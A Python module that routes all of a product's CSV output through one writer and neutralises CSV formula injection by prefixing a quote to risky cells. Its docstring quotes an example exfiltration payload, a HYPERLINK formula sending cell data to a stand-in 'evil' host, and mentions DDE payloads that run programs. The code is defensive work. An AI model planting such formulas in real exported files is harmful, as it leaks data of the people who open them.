"""The one CSV writer: every CSV the product writes goes through it.

Crawled text (page titles, organisation names, evidence sentences, URLs) ends
up in CSV files that analysts open in Excel or LibreOffice.  A cell that
starts with ``=``, ``+``, ``-`` or ``@`` - or with a tab or carriage return,
or with any of these after leading whitespace (``" =1+2"``: spreadsheets skip
the blanks) - is evaluated as a formula: ``=HYPERLINK("http://evil/?"&A1)``
leaks data, DDE payloads run programs (CSV injection).  Such a string cell is
neutralised by prefixing ``'``, which spreadsheets show as text.

What is *not* touched, so that numeric columns stay numeric:

* ``int`` and ``float`` values: numbers the product computed itself (scores,
  ranks, counts) are not crawled text, and ``-0.25`` is not a formula;
* a string that is exactly a plain decimal number (``"-0.2500"``, ``"+3"``,
  ``"1e-05"``, no blanks around it): the product writes its own numbers
  preformatted in some files, and a bare number cannot carry a formula
  whatever its origin.

Booleans and ``None`` are written as ``csv`` writes them.  This module is a
leaf: it imports nothing from the package.
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(v: Any) -> Any:
    """``v`` as it may go into a CSV cell: a formula-looking string gets a leading ``'``."""
    if not isinstance(v, str) or not v:
        return v
    if v.startswith(TRIGGERS) or v.lstrip().startswith(TRIGGERS):
        if _NUMBER.fullmatch(v):
            return v
        return "'" + v
    return v


def write_csv(fh: IO[str], rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str], *,
              lineterminator: str = "\n", extrasaction: str = "raise") -> None:
    """Write a header and ``rows`` (dicts) to ``fh``, every cell through :func:`safe_cell`."""
    w = csv.DictWriter(fh, fieldnames=list(fieldnames), lineterminator=lineterminator, extrasaction=extrasaction)
    w.writeheader()
    for r in rows:
        w.writerow({k: safe_cell(v) for k, v in r.items()})


def csv_text(rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str], *,
             lineterminator: str = "\n", extrasaction: str = "raise") -> str:
    """The CSV text (header and ``rows``) as :func:`write_csv` writes it."""
    buf = io.StringIO()
    write_csv(buf, rows, fieldnames, lineterminator=lineterminator, extrasaction=extrasaction)
    return buf.getvalue()
